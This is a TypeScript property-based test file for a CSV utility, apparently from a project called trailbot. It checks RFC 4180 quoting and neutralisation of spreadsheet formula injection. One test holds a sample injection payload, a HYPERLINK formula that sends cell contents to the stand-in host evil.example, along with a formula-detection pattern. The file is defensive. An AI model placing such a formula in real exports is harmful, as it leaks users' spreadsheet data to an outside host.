import fc from 'fast-check';
import { csvRecord, ExactCsv, exactValue, needsFormulaMark, parseCsv, spreadsheetSafe } from '../../src/util/csv';

/** What a spreadsheet evaluates: a cell starting (after whitespace) with a formula sign, or with tab / CR / NUL. */
const FORMULA = /^(?:[\s\u0000]*[=+\-@＝＋－＠﹦﹢﹣﹫]|[\t\r\n\u0000])/u;
const NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** Any text, with a good share of formula-shaped and mark-shaped beginnings. */
const hostileText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc
    .tuple(
      fc.constantFrom('', ' ', '  ', '\t', '\r', '\n', '\u00a0', '\u3000', '\u0000', '\ufeff', '"', "'", "''"),
      fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹣', "'", ',', '"', ''),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
    )
    .map(([a, b, c]) => a + b + c),
  fc.double({ noNaN: true }).map(String),
  fc.integer().map((n) => (n >= 0 ? `+${n}` : String(n))),
);

async function throughExactCsv(text: string, cuts: number[]): Promise<string> {
  const bytes = Buffer.from(text, 'utf8');
  const points = [...new Set(cuts.map((c) => c % (bytes.length + 1)))].sort((a, b) => a - b);
  const t = new ExactCsv();
  const out: Buffer[] = [];
  t.on('data', (d: Buffer) => out.push(d));
  const ended = new Promise((r) => t.on('end', r));
  let from = 0;
  for (const p of [...points, bytes.length]) {
    t.write(bytes.subarray(from, p));
    from = p;
  }
  t.end();
  await ended;
  return Buffer.concat(out).toString('utf8');
}

describe('RFC 4180 CSV', () => {
  test('quotes fields with commas, quotes, CR or LF; NULL is empty; records end with CRLF', () => {
    expect(csvRecord(['a', 'b,c', 'say "hi"', 'line\nbreak', null, ''])).toBe(
      'a,"b,c","say ""hi""","line\nbreak",,\r\n',
    );
  });

  test('round-trips any text: the exact value is the cell without its one leading mark', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(hostileText, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const text = rows.map((r) => csvRecord(r)).join('');
          expect(parseCsv(text).map((r) => r.map(exactValue))).toEqual(rows);
          const exact = rows.map((r) => csvRecord(r, { exact: true })).join('');
          expect(parseCsv(exact)).toEqual(rows);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('spreadsheet formulas (CWE-1236, OWASP "CSV Injection")', () => {
  test('a cell that would start a formula gets one leading apostrophe', () => {
    expect(csvRecord(['=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd', '-2+3', '@SUM(A1:A9)'])).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+cmd,'-2+3,'@SUM(A1:A9)\r\n`,
    );
    expect(csvRecord(['\t=1+1', '\r=1+1', '\u0000x', '\nx'])).toBe(`'\t=1+1,"'\r=1+1",'\u0000x,"'\nx"\r\n`);
  });

  test('whitespace before the sign and the full-width and small forms are marked too', () => {
    for (const v of [
      '  =1+1',
      '\u00a0@x',
      '\u3000+1',
      '＝1+1',
      '＋A1',
      '－A1',
      '＠SUM(A1)',
      ' ＝x',
      '﹦1',
      '﹣1',
      '\ufeff=1',
    ])
      expect(spreadsheetSafe(v)).toBe(`'${v}`);
  });

  test('plain numbers are data and stay as they are; ordinary text is untouched', () => {
    for (const v of ['-3', '+1.5e3', '42', '-0.5', '.5', '1e-3', '-12.', 'alice', 'a=b', 'x-y', 'user@example.com', ''])
      expect(spreadsheetSafe(v)).toBe(v);
    for (const v of ['-', '+', '-3+1', '-1e3e3', '- 3', '--3']) expect(spreadsheetSafe(v)).toBe(`'${v}`);
  });

  test('a value that starts with the mark itself gets one more, so the mark is never ambiguous', () => {
    expect(spreadsheetSafe("'=1")).toBe("''=1");
    expect(spreadsheetSafe("'quoted'")).toBe("''quoted'");
    expect(exactValue(spreadsheetSafe("'=1"))).toBe("'=1");
    expect(exactValue(spreadsheetSafe('=1'))).toBe('=1');
    expect(exactValue('plain')).toBe('plain');
  });

  test('no cell of any CSV trailbot writes starts a formula', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 8 }), (values) => {
        for (const cell of parseCsv(csvRecord(values))[0]!) {
          if (FORMULA.test(cell)) expect(cell).toMatch(NUMBER);
          expect(needsFormulaMark(cell) && !cell.startsWith("'")).toBe(false);
        }
      }),
      { numRuns: 1000 },
    );
  });

  test('ExactCsv turns the safe file into the exact one, wherever the chunks are cut', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(fc.oneof(hostileText, fc.constant(null)), { minLength: 1, maxLength: 4 }), {
          minLength: 1,
          maxLength: 6,
        }),
        fc.array(fc.nat(), { maxLength: 8 }),
        async (rows, cuts) => {
          const safe = rows.map((r) => csvRecord(r)).join('');
          const exact = rows.map((r) => csvRecord(r, { exact: true })).join('');
          expect(await throughExactCsv(safe, cuts)).toBe(exact);
        },
      ),
      { numRuns: 400 },
    );
  });
});
